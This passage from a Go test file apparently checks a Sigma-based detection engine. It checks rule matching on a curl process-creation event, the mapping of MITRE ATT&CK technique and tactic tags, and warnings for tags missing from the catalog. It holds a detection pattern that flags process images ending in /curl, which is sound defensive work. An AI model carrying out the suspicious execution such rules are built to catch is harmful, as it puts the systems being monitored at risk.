		r := rule(id, "process_creation", "    sel:\n        Image|endswith: /curl\n    condition: sel\n")
		return strings.Replace(r, "    - attack.t1059.004\n", "    - "+strings.Join(tags, "\n    - ")+"\n", 1)
	}
	dir := ruleDir(t, tagged("u1", "attack.t1686", "attack.t1685.004", "attack.t1059.004"), tagged("u2", "attack.t1686"),
		strings.Replace(tagged("u3", "attack.persistence", "attack.stealth", "attack.g0032"), "    - attack.execution\n", "", 1))
	e, err := New(Config{Rules: []string{dir}}, quietLog(), nil)
	if err != nil {
		t.Fatal(err)
	}
	ev := eventOf(t, execCurl)
	if got := matched(t, e, ev); !slices.Equal(got, []string{"u1", "u2", "u3"}) {
		t.Fatalf("matched %v", got)
	}
	var got []string
	for _, tc := range ev.Techniques {
		var tactics []string
		for _, ta := range tc.Tactics {
			tactics = append(tactics, ta.ID)
		}
		got = append(got, tc.ID+"/"+tc.ParentID+"/"+tc.Name+"/"+tc.Source+"/"+strings.Join(tactics, ","))
	}
	// u1's execution tag is T1059.004's tactic; u2's is not in a
	// technique of its own, nor u3's persistence.
	want := []string{"T1686///sigma:u1/", "T1685.004/T1685//sigma:u1/", "T1059.004/T1059/Unix Shell/sigma:u1/TA0002", "T1686///sigma:u2/",
		"///sigma:u2/TA0002", "///sigma:u3/TA0003"}
	if !slices.Equal(got, want) {
		t.Errorf("techniques %q, want %q", got, want)
	}
	w := e.Set().Warnings
	if len(w) != 3 || !strings.Contains(w[0], "ATT&CK technique T1686 is not in the bundled catalog") || !strings.Contains(w[1], "T1685.004") ||
		!strings.Contains(w[2], "ATT&CK tactic stealth is not in the bundled catalog") {
		t.Errorf("warnings %q, want one for T1686, T1685.004 and the tactic stealth", w)
	}

	s, err := Load(sharedRules(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range s.Rules() {
		if r.Title == "Disable System Firewall" && !slices.ContainsFunc(r.techs, func(tc audit.Technique) bool { return tc.ID == "T1686" }) {
			t.Errorf("%s: techniques %+v, want T1686", r.File, r.techs)
		}
	}
}
